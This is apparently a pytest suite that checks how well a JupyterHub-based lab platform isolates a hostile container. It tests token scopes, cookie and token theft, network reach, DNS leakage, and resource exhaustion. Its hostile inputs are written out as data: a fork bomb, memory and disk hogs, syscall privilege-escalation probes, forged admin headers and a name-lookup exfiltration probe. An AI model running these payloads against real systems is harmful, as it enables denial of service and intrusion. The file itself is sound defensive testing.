"""A hostile lab: whatever runs in its container, up to root there and to its own web server."""

import json
import re
import secrets
import subprocess
from collections.abc import Iterator

import pytest
import requests
from docker.api.client import APIClient

from sophon_hub import names
from tests.engine import remove_namespace
from tests.hub.running import RunningHub
from tests.security import inside
from tests.security.conftest import LAB_IMAGE, OTHER_PROJECT, PROJECT, RunningLab, Scene
from tests.waiting import wait_for

pytestmark = [pytest.mark.hub, pytest.mark.docker]

ACCOUNT = names.account_name(PROJECT)
OTHER_ACCOUNT = names.account_name(OTHER_PROJECT)


# its token at the Hub


def test_the_token_of_a_lab_is_for_itself_alone(scene: Scene) -> None:
    status, said = inside.request(scene.closed.container, "GET", "{api}/user")

    me = json.loads(said)
    assert (status, me["name"], me["admin"]) == (200, ACCOUNT, False)
    assert {scope for scope in me["scopes"] if not scope.startswith("read:users:")} == {
        f"access:servers!server={ACCOUNT}/{scene.closed.slug}",
        f"users:activity!user={ACCOUNT}",
    }
    assert all(scope.endswith(f"!user={ACCOUNT}") for scope in me["scopes"] if "read:" in scope)


REFUSED_AT_THE_HUB = [
    ("GET", "/users", None),
    ("GET", "/users/ada", None),
    ("GET", f"/users/{OTHER_ACCOUNT}", None),
    ("GET", "/groups", None),
    ("GET", "/services", None),
    ("GET", "/proxy", None),
    ("GET", "/info", None),
    ("GET", f"/users/{ACCOUNT}/tokens", None),
    ("GET", f"/users/{ACCOUNT}/servers/open", None),
    ("GET", f"/shares/{ACCOUNT}", None),
    ("POST", "/users/mallory", {}),
    ("POST", f"/users/{ACCOUNT}/tokens", {}),
    ("POST", "/users/ada/tokens", {}),
    ("POST", f"/users/{ACCOUNT}/server", {}),
    ("POST", f"/users/{ACCOUNT}/servers/another", {"user_options": {"image": "x"}}),
    ("POST", f"/users/{OTHER_ACCOUNT}/activity", {"last_activity": "2026-01-01T00:00:00Z"}),
    ("POST", "/groups/sophon-accounts/users", {"users": ["ada"]}),
    ("POST", f"/share-codes/{ACCOUNT}/open", {}),
    ("POST", "/services/mine", {"api_token": "a" * 32}),
    ("POST", "/shutdown", {}),
    ("PUT", f"/users/{ACCOUNT}/servers/another", {}),
    ("PATCH", f"/users/{ACCOUNT}/servers/open", {"user_options": {"image": "x"}}),
    ("PATCH", "/users/ada", {"admin": True}),
    ("PATCH", f"/users/{ACCOUNT}", {"admin": True}),
    ("DELETE", f"/users/{ACCOUNT}/servers/open", {"remove": True}),
    ("DELETE", f"/users/{ACCOUNT}", None),
]


def test_the_token_of_a_lab_lists_changes_starts_and_makes_nothing_at_the_hub(
    scene: Scene,
) -> None:
    wanted = [(method, f"{{api}}{path}", {}, body) for method, path, body in REFUSED_AT_THE_HUB]

    answers = inside.requests(scene.closed.container, ("GET", "{api}/user", {}, None), *wanted)

    assert answers[0][0] == 200
    let_through = [
        (request[0], request[1], status)
        for request, (status, _) in zip(wanted, answers[1:], strict=True)
        if status not in (403, 404)
    ]
    assert let_through == []


def test_a_lab_reports_activity_for_the_labs_of_its_project_only(scene: Scene) -> None:
    now = {"last_activity": "2026-01-01T00:00:00Z"}
    body = {"servers": {scene.open.slug: now}}

    for account, status in ((ACCOUNT, 200), (OTHER_ACCOUNT, 404)):
        address = f"{{api}}/users/{account}/activity"
        answer = inside.request(scene.closed.container, "POST", address, body)
        assert answer[0] == status, answer


def token_of(lab: RunningLab) -> str:
    code, token = inside.run(lab.container, "printenv", "JUPYTERHUB_API_TOKEN")
    assert code == 0
    return token.strip()


def test_the_token_of_a_lab_opens_neither_the_portal_nor_another_lab(scene: Scene) -> None:
    headers = {"Authorization": f"token {token_of(scene.closed)}"}

    def status(address: str) -> int:
        return requests.get(address, headers=headers, timeout=30).status_code

    assert status(f"{scene.closed.url}/api/contents") == 200
    for lab in (scene.open, scene.other):
        assert status(f"{lab.url}/api/contents") == 403, lab.slug
    for path in ("me", f"projects/{PROJECT}", "groups", "instance"):
        assert status(f"{scene.site.portal}api/v1/{path}") == 403, path


# what visitors bring along


def test_of_all_cookies_of_the_hub_a_lab_gets_the_session_id_only(scene: Scene) -> None:
    browser = scene.browser("grace")
    held = {(cookie.name, cookie.path) for cookie in browser.cookies}
    assert ("jupyterhub-hub-login", "/hub/") in held
    assert ("service-sophon", "/services/sophon/") in held

    headers = requests.structures.CaseInsensitiveDict(
        browser.get(f"{scene.hostile.url}/echo", timeout=30).json()
    )

    got = {cookie.partition("=")[0].strip() for cookie in headers["Cookie"].split(";")}
    assert got == {"jupyterhub-session-id"}
    assert "Authorization" not in headers


def test_the_session_id_that_a_lab_gets_signs_nobody_in(scene: Scene) -> None:
    browser = scene.browser("grace")
    headers = str(browser.get(f"{scene.hostile.url}/echo", timeout=30).json())
    session_id = re.search(r"jupyterhub-session-id=(\w+)", headers)
    assert session_id

    thief = requests.Session()
    thief.cookies.set("jupyterhub-session-id", session_id[1])

    assert browser.get(f"{scene.site.url}/hub/home", timeout=30).url.endswith("/hub/home")
    assert "/hub/login" in thief.get(f"{scene.site.url}/hub/home", timeout=30).url
    address = f"{scene.site.portal}api/v1/me"
    assert browser.get(address, timeout=30).json()["username"] == "grace"
    assert thief.get(address, timeout=30).json()["username"] is None


VISITOR_SCOPES = {
    f"access:servers!server={ACCOUNT}/hostile",
    "read:users:groups!user=grace",
    "read:users:name!user=grace",
}


def scopes_of(scene: Scene, token: str) -> set[str]:
    headers = {"Authorization": f"token {token}"}
    me = requests.get(f"{scene.site.url}/hub/api/user", headers=headers, timeout=30).json()
    assert me["name"] == "grace"
    return set(me["scopes"])


def test_the_token_that_a_lab_gets_of_a_visitor_tells_who_it_is_and_opens_nothing_else(
    scene: Scene,
) -> None:
    stolen = scene.browser("grace").get(f"{scene.hostile.url}/steal", timeout=30).json()
    headers = {"Authorization": f"token {stolen['access_token']}"}

    def status(address: str, method: str = "GET") -> int:
        return requests.request(method, address, headers=headers, json={}, timeout=30).status_code

    hub = f"{scene.site.url}/hub/api"
    assert scopes_of(scene, stolen["access_token"]) == VISITOR_SCOPES
    for lab in (scene.closed, scene.other):
        assert status(f"{lab.url}/api/contents") == 403
    assert status(f"{scene.site.portal}api/v1/projects/{PROJECT}") == 403
    assert status(f"{hub}/users/grace/tokens", "POST") == 403
    assert status(f"{hub}/users/grace/server", "POST") == 403


@pytest.mark.parametrize("scope", ["inherit", "self", "admin:users", "tokens", "access:services"])
def test_a_lab_that_asks_for_more_of_its_visitors_gets_no_more(scene: Scene, scope: str) -> None:
    answer = scene.browser("grace").get(f"{scene.hostile.url}/steal?scope={scope}", timeout=30)

    if answer.ok:
        assert scopes_of(scene, answer.json()["access_token"]) <= VISITOR_SCOPES
    else:
        assert answer.status_code in (400, 403)


# what it reaches


def gateway(engine: APIClient, network: str) -> str:
    found = engine.inspect_network(network)["IPAM"]["Config"][0]["Gateway"]
    return str(found)


def test_a_lab_reaches_the_hubs_port_but_no_other_part_of_the_hub(
    scene: Scene, engine: APIClient
) -> None:
    site = scene.site
    ports = {
        name: int(site._environment[f"SOPHON_{name}_PORT"])
        for name in ("HUB", "PROXY_API", "PORTAL")
    }
    hosts = [gateway(engine, f"{site.namespace}-{name}") for name in ("labs", "internet")]
    hosts.append(gateway(engine, "bridge"))
    parts = [site.port, ports["PROXY_API"], ports["PORTAL"]]
    for lab in (scene.closed, scene.open):
        assert inside.reaches(lab.container, (hosts[0], ports["HUB"])) == [True]
        targets = [(host, port) for host in ("127.0.0.1", *hosts) for port in parts]
        assert not any(inside.reaches(lab.container, *targets)), lab.slug


def test_a_lab_reaches_what_listens_on_all_addresses_of_the_machine(
    scene: Scene, engine: APIClient
) -> None:
    host = gateway(engine, f"{scene.site.namespace}-labs")
    with inside.listener("0.0.0.0") as everywhere, inside.listener("127.0.0.1") as loopback:
        for lab in (scene.closed, scene.open):
            targets = [(host, everywhere), (host, loopback)]
            assert inside.reaches(lab.container, *targets) == [True, False], lab.slug


DATAGRAM = """
import json, socket, sys
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    link.settimeout(2)
    try:
        link.sendto(b"hello", (sys.argv[1], 5300))
        print(json.dumps(link.recv(100).decode()))
    except OSError:
        print("null")
"""
ECHO = """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    link.bind(("0.0.0.0", 5300))
    print("ready", flush=True)
    link.settimeout(5)
    while True:
        data, sender = link.recvfrom(100)
        link.sendto(data, sender)
"""


def address_of(engine: APIClient, lab: RunningLab, network: str = "labs") -> str:
    details = engine.inspect_container(lab.container)["NetworkSettings"]["Networks"]
    return str(details[f"{lab.site.namespace}-{network}"]["IPAddress"])


def test_a_lab_sends_no_datagram_to_another(scene: Scene, engine: APIClient) -> None:
    target = address_of(engine, scene.other)
    with inside.serving(scene.other.container, ECHO):
        assert inside.python(scene.other.container, DATAGRAM, target) == "hello"
        assert inside.python(scene.closed.container, DATAGRAM, target) is None


def test_a_lab_has_no_ipv6_on_which_another_could_be_reached(scene: Scene) -> None:
    for lab in (scene.closed, scene.open):
        code, addresses = inside.run(lab.container, "cat", "/proc/net/if_inet6")
        assert code == 0
        assert [line for line in addresses.splitlines() if not line.endswith("lo")] == []


RESOLVE = """
import json, socket, sys
from concurrent.futures import ThreadPoolExecutor
def resolve(name):
    try:
        return socket.gethostbyname(name)
    except OSError:
        return None
print(json.dumps(list(ThreadPoolExecutor(9).map(resolve, sys.argv[1:]))))
"""


def test_a_lab_does_not_find_others_by_their_names(scene: Scene, engine: APIClient) -> None:
    """A name that can be guessed would tell which labs of private projects run."""
    guesses = [scene.other.slug, scene.open.slug, PROJECT, OTHER_PROJECT, ACCOUNT]

    found = inside.python(scene.closed.container, RESOLVE, *guesses, scene.other.container)

    # the engine does answer for the container's own name, which nobody can guess
    assert found == [None] * len(guesses) + [address_of(engine, scene.other)]


COUNT = """
import json, socket, sys
def known(address):
    try:
        return socket.gethostbyaddr(address)[0]
    except OSError:
        return None
print(json.dumps([known(address) for address in sys.argv[1:]]))
"""


def test_a_lab_can_count_the_labs_that_run(scene: Scene, engine: APIClient) -> None:
    addresses = [address_of(engine, lab) for lab in (scene.open, scene.other)]

    found = inside.python(scene.closed.container, COUNT, *addresses)

    assert all(name and name.startswith(scene.other.site.namespace) for name in found)
    told = " ".join(found)
    assert not any(word in told for word in (PROJECT, OTHER_PROJECT, scene.other.slug))


OWN_NAME_SERVER = """
import json, socket, sys, threading
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    link.bind(("127.0.0.1", 53))
    link.settimeout(3)
    def ask():
        try:
            socket.gethostbyname("stolen.example.org")
        except OSError:
            pass
    threading.Thread(target=ask, daemon=True).start()
    try:
        print(json.dumps(b"stolen" in link.recv(512)))
    except OSError:
        print("false")
"""


def test_what_a_lab_without_internet_asks_for_by_name_comes_back_to_itself(scene: Scene) -> None:
    """Else the engine would carry its questions, and what is hidden in them, out of the machine."""
    assert inside.python(scene.closed.container, OWN_NAME_SERVER) is True
    assert inside.python(scene.open.container, OWN_NAME_SERVER) is False


# rights


POWERS = """
import ctypes, json, os, socket

libc = ctypes.CDLL(None, use_errno=True)

def syscall(result):
    if result:
        raise OSError(ctypes.get_errno(), "refused")

def change_routes():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as link:
        import struct
        body = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 7, 0)
        body += struct.pack("=HH", 8, 1) + socket.inet_aton("192.0.2.1")
        link.send(struct.pack("=IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
        error = struct.unpack_from("=i", link.recv(4096), 16)[0]
        if error:
            raise OSError(-error, "refused")

def raw_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()

def in_a_child(work):
    pid = os.fork()
    if not pid:
        try:
            work()
        except OSError:
            os._exit(1)
        os._exit(0)
    if os.waitpid(pid, 0)[1]:
        raise OSError("refused")

powers = {
    "change routes": change_routes,
    "raw socket": raw_socket,
    "mount": lambda: syscall(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)),
    "device": lambda: os.mknod("/var/tmp/disk", 0o60600, os.makedev(254, 0)),
    "kernel setting": lambda: open("/proc/sys/net/ipv4/ip_forward", "w").close(),
    "namespace": lambda: in_a_child(lambda: syscall(libc.unshare(0x10000000 | 0x20000))),
    "become another": lambda: in_a_child(lambda: os.setuid(1234)),
    "chroot": lambda: in_a_child(lambda: os.chroot("/mnt")),
    "clock": lambda: __import__("time").clock_settime(0, __import__("time").time()),
}
held = []
for name, work in powers.items():
    try:
        work()
        held.append(name)
    except OSError:
        pass
print(json.dumps(held))
"""


@pytest.mark.parametrize("user", ["1000", "0"])
def test_neither_a_lab_nor_root_in_it_has_power_over_the_machine(scene: Scene, user: str) -> None:
    assert inside.python(scene.hostile.container, POWERS, user=user) == []


def test_root_in_an_ordinary_container_would_have_most_of_those_powers(engine: APIClient) -> None:
    # if the attack above could not succeed anywhere, its failing would say nothing
    bare = engine.create_container(
        LAB_IMAGE,
        ["sleep", "60"],
        user="0",
        host_config=engine.create_host_config(cap_add=["NET_ADMIN"], network_mode="none"),
    )["Id"]
    try:
        engine.start(bare)
        held = inside.python(bare, POWERS, user="0")
    finally:
        engine.remove_container(bare, force=True)

    assert set(held) >= {"change routes", "raw socket", "device", "become another", "chroot"}


def test_root_in_a_lab_does_not_even_read_the_home(scene: Scene) -> None:
    lab = scene.closed.container
    assert inside.run(lab, "sh", "-c", "umask 077; echo mine > private.txt")[0] == 0

    assert inside.run(lab, "cat", "/home/jovyan/private.txt") == (0, "mine\n")
    assert inside.run(lab, "cat", "/home/jovyan/private.txt", user="0")[0] != 0


FORK_BOMB = """
import json, os, signal, time
children = []
try:
    while len(children) < 5000:
        pid = os.fork()
        if not pid:
            signal.pause()
        children.append(pid)
except OSError:
    pass
for pid in children:
    os.kill(pid, signal.SIGKILL)
print(json.dumps(len(children)))
"""


def answers(lab: RunningLab) -> bool:
    return requests.get(f"{lab.url}/api", timeout=5).ok


def test_a_fork_bomb_ends_at_the_limit_and_harms_nobody_else(scene: Scene) -> None:
    made = inside.python(scene.hostile.container, FORK_BOMB)

    assert 100 < made < 512
    assert answers(scene.closed)
    assert scene.site.is_healthy()


HOG = """
kept = []
while True:
    kept.append(bytearray(16 * 1024 * 1024))
    print(len(kept) * 16, flush=True)
"""


def test_memory_beyond_the_limit_ends_the_process_and_harms_nobody_else(scene: Scene) -> None:
    code, said = inside.run(scene.hostile.container, "python3", "-", script=HOG)

    assert code == 137  # killed
    assert 100 < int(said.split()[-1]) <= 256  # megabytes: the limit of this lab
    assert answers(scene.closed)
    assert scene.site.is_healthy()


FILLER = """
import os, time
with open("/home/jovyan/ballast", "wb") as file:
    for count in range(1, 80):
        os.posix_fallocate(file.fileno(), 0, count * 256 * 1024**2)
        time.sleep(0.5)
time.sleep(600)
"""


def test_a_lab_that_fills_the_disk_is_stopped_and_harms_nobody_else(scene: Scene) -> None:
    api, lab = scene.ada, f"projects/{PROJECT}/labs/filler"
    api.expect(201, "POST", f"projects/{PROJECT}/labs", json={"name": "filler"})
    api.start(lab)
    labels = [f"org.sophon.namespace={scene.site.namespace}", "org.sophon.lab=filler"]
    command = ["docker", "ps", "--quiet", *(f"--filter=label={label}" for label in labels)]
    container = subprocess.run(command, capture_output=True, text=True, check=True).stdout.strip()
    assert inside.run(container, "sh", "-c", "echo mine > ~/mine")[0] == 0

    with subprocess.Popen(
        ["docker", "exec", "--user", "1000", container, "python3", "-c", FILLER]
    ) as filling:
        api.wait_for_state(lab, "stopped")
        filling.wait(30)

    for other in (scene.closed, scene.other):
        assert answers(other)
        assert api.expect(200, "GET", other.path)["state"] == "running"
    assert scene.site.is_healthy()
    refused = api.request("POST", f"{lab}/start")
    assert refused.status_code == 409
    assert "hardly any room left" in refused.json()["detail"]
    [event] = [
        event
        for event in api.expect(200, "GET", f"projects/{PROJECT}/events")["items"]
        if event["action"] == "lab:halt"
    ]
    assert (event["actor"], event["subject"]) == (None, f"{PROJECT}/filler")

    # nothing is lost, and there is a way out
    api.expect(202, "POST", f"{lab}/start", json={"clean_up": True})
    api.wait_for_state(lab, "running")
    container = subprocess.run(command, capture_output=True, text=True, check=True).stdout.strip()
    assert inside.run(container, "sh", "-c", "cat ~/mine && rm ~/ballast") == (0, "mine\n")
    wait_for(
        lambda: api.expect(200, "GET", lab)["disk"]["state"] != "held", "the disk to have room"
    )
    api.stop(lab)


def test_no_limit_of_the_engine_keeps_a_home_small(scene: Scene) -> None:
    sizes = [
        inside.run(scene.hostile.container, "stat", "--file-system", "--format=%b", place)
        for place in ("/home/jovyan", "/")
    ]

    assert sizes[0] == sizes[1]  # no quota: the home is as large as the engine's own disk


# the Hub's own port, beside the proxy

FORGED = {
    "Remote-User": "admin",
    "X-Remote-User": "admin",
    "X-Forwarded-User": "admin",
    "X-Sso-User": "admin",
    "X-Forwarded-For": "127.0.0.1",
    "X-Forwarded-Host": "127.0.0.1",
    "X-Forwarded-Proto": "https",
    "X-Real-Ip": "127.0.0.1",
    "Authorization": "",
}


def test_headers_that_a_lab_makes_up_at_the_hubs_port_sign_nobody_in(scene: Scene) -> None:
    paths = ("/home", "/admin", "/token", "/sso/login", "/cosign/login", "/api/user")

    for path in paths:
        status, said = inside.request(scene.closed.container, "GET", f"{{hub}}{path}", **FORGED)
        assert status in (302, 403, 404), (path, status)
        assert "Administrator" not in said


def test_a_lab_sees_the_sign_in_page_as_anybody_does(scene: Scene) -> None:
    status, page = inside.request(scene.closed.container, "GET", "{hub}/login")

    assert status == 200
    assert 'name="password"' in page


# a hub with campus sign-on

SECRET = "0123456789abcdef" * 4
SIGN_ON = {"X-Sso-User": "ada", "X-Sso-Secret": SECRET, "X-Forwarded-For": "127.0.0.1"}


@pytest.fixture(scope="module")
def campus(tmp_path_factory: pytest.TempPathFactory, engine: APIClient) -> Iterator[RunningHub]:
    """A hub that believes the web server in front of it, with the network of its labs."""
    directory = tmp_path_factory.mktemp("campus")
    secret = directory / "proxy-secret"
    secret.touch(0o600)
    secret.write_text(f"{SECRET}\n")
    namespace = f"sophontest-{secrets.token_hex(4)}"
    hub = RunningHub(
        directory,
        config="c.TrustedProxyAuthenticator.allow_all = True",
        authenticator="sophon-proxy",
        proxy_secret_file=str(secret),
        spawner="docker",
        namespace=namespace,
    )
    hub.start()
    yield hub
    hub.end()
    remove_namespace(engine, namespace)


def test_a_lab_signs_nobody_in_even_with_the_secret_of_the_campus_sign_on(
    campus: RunningHub, engine: APIClient
) -> None:
    network = f"{campus.environment['SOPHON_NAMESPACE']}-labs"
    hub = f"http://{gateway(engine, network)}:{campus.port + 81}/hub"
    answer = requests.get(
        f"{campus.url}/hub/sso/login", headers=SIGN_ON, allow_redirects=False, timeout=30
    )
    assert answer.status_code == 302
    assert "jupyterhub-hub-login" in answer.cookies

    labels = {"org.sophon.namespace": campus.environment["SOPHON_NAMESPACE"]}
    lab = engine.create_container(
        LAB_IMAGE,
        ["sleep", "60"],
        host_config=engine.create_host_config(network_mode=network, cap_drop=["ALL"]),
        labels=labels,
    )["Id"]
    engine.start(lab)
    assert inside.request(lab, "GET", f"{hub}/login")[0] in (200, 302)
    status, said = inside.request(lab, "GET", f"{hub}/sso/login", **SIGN_ON, Authorization="")

    assert status == 403
    assert "did not say who you are" in said
